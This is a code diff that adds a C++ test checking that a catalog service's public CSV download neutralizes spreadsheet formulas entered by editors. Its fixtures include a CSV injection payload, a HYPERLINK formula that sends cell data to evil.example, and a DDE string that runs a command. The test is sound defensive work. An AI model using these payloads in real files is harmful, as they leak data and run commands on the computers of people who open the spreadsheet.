@@ -112,6 +112,42 @@ TEST_P(CatalogServiceTest, ImportGoesToTheDraftAndPublishMakesTheNextVersion) {
             absl::StatusCode::kFailedPrecondition);
 }
 
+// Issue 12, finding 8: what an editor typed as a formula reaches the public
+// CSV download (GET /domains/{id}/catalog.csv encodes the published
+// version) as text, on both databases.
+TEST_P(CatalogServiceTest, PublicCsvDownloadNeutralizesFormulas) {
+  CatalogItem evil =
+      Item("招生管理", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
+           "实时公开");
+  evil.elements = "@SUM(1+1)*cmd|' /C calc'!A0";
+  evil.subject = "-县教育局";
+  auto out = service_->Import(admin_, edu_, {.bytes = Xlsx({evil})});
+  ASSERT_TRUE(out.ok()) << out.status();
+  ASSERT_TRUE(service_->Publish(admin_, edu_, "含公式样文本").ok());
+  auto csv = service_->Export(edu_, "published", "csv");
+  ASSERT_TRUE(csv.ok()) << csv.status();
+  EXPECT_THAT(*csv, HasSubstr("\"'=HYPERLINK(\"\"http://evil.example/"));
+  EXPECT_THAT(*csv, HasSubstr("\"'@SUM(1+1)"));
+  EXPECT_THAT(*csv, HasSubstr("\"'-县教育局\""));
+  auto rows = ParseCsv(*csv);
+  ASSERT_TRUE(rows.ok()) << rows.status();
+  ASSERT_EQ(rows->size(), 2u);
+  for (const std::string& cell : rows->at(1)) {
+    EXPECT_TRUE(cell.empty() || std::string_view("=+-@\t\r").find(cell[0]) ==
+                                    std::string_view::npos)
+        << cell;
+  }
+  // The download, imported again, gives the cells back as typed.
+  auto again = service_->Import(admin_, edu_, {.bytes = *csv, .format = "csv"});
+  ASSERT_TRUE(again.ok()) << again.status();
+  auto draft = service_->Get(edu_, "draft");
+  ASSERT_TRUE(draft.ok()) << draft.status();
+  ASSERT_EQ(draft->catalog.items.size(), 1u);
+  EXPECT_EQ(draft->catalog.items[0].level2, evil.level2);
+  EXPECT_EQ(draft->catalog.items[0].elements, evil.elements);
+  EXPECT_EQ(draft->catalog.items[0].subject, evil.subject);
+}
+
 TEST_P(CatalogServiceTest,
        AllOrNothingImportLeavesTheDraftAloneAndNamesTheRow) {
   std::string csv =
